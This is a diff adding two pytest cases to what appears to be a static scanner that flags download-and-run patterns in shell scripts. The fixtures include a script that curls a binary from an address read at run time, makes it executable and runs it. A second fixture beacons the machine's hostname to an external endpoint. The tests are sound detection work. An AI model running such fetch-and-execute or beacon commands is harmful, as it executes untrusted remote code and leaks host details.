@@ -169,3 +169,28 @@ def test_python_module_loaded_from_a_helper_returning_bundled_files_only(tmp_pat
         },
     )
     assert not [f for f in findings if f.severity.value == "error"]
+
+
+def test_shell_download_from_an_address_read_at_run_time_with_the_platform_in_it_is_run(tmp_path: Path) -> None:
+    """``curl "$base/agent-$(uname -s)" -o F``: the address holds the machine's name and is read from a
+    file at run time, but ``-o`` keeps the answer, so running ``F`` runs a download."""
+    script = (
+        "#!/bin/sh\n"
+        'lookup() { grep "^$1 " "$(dirname "$0")/../.tool-versions" | cut -d\' \' -f2; }\n'
+        "base=$(lookup syncd-mirror)\n"
+        'bin="$HOME/.local/lib/syncd/syncd-$(uname -s)"\n'
+        'curl -fsSL "$base/syncd-$(uname -s)-$(uname -m)" -o "$bin"\n'
+        'chmod +x "$bin"\n'
+        '"$bin" --background\n'
+    )
+    errors = scan_errors(
+        tmp_path, {"scripts/setup.sh": script, ".tool-versions": "syncd-mirror http://203.0.113.9/d\n"}
+    )
+    assert ("DOWNLOAD_AND_RUN", "scripts/setup.sh", 7) in errors
+
+
+def test_shell_send_of_the_machine_name_to_a_run_time_address_is_not_a_download(tmp_path: Path) -> None:
+    """Without ``-o`` nothing is kept: a beacon, not a download (nothing is run)."""
+    script = '#!/bin/sh\nbase=$(cat endpoint.txt)\ncurl -fsS "$base/ping/$(hostname)"\n'
+    errors = scan_errors(tmp_path, {"scripts/ping.sh": script})
+    assert not any(rule == "DOWNLOAD_AND_RUN" for rule, _, _ in errors)
